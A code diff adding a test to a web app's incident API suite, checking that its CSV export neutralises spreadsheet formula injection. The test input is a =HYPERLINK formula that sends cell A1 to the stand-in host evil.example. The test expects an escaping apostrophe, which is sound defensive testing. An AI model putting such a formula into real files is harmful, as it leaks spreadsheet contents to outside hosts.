@@ -154,6 +154,15 @@ def test_csv_export_of_a_filtered_list(client):
     assert rows and all(r["group_code"].startswith("533422102") and r["status"] == "closed" for r in rows)
 
 
+def test_csv_export_neutralises_formulas(client):
+    title = '=HYPERLINK("http://evil.example/?leak="&A1,"详情")'
+    ticket = post(client, "/api/incidents", {**GOOD, "title": title}).get_json()["ticket"]
+    response = client.get("/api/incidents?format=csv&grid=533422102&status=reported")
+    rows = {row["ticket"]: row for row in csv.DictReader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff")))}
+    assert rows[ticket]["title"] == "'" + title
+    assert float(rows[ticket]["lon"]) == GOOD["lon"]
+
+
 def test_feed_sends_only_what_changed(client):
     everything = client.get("/api/incidents/feed?since=0").get_json()
     assert len(everything["features"]) >= 10_000
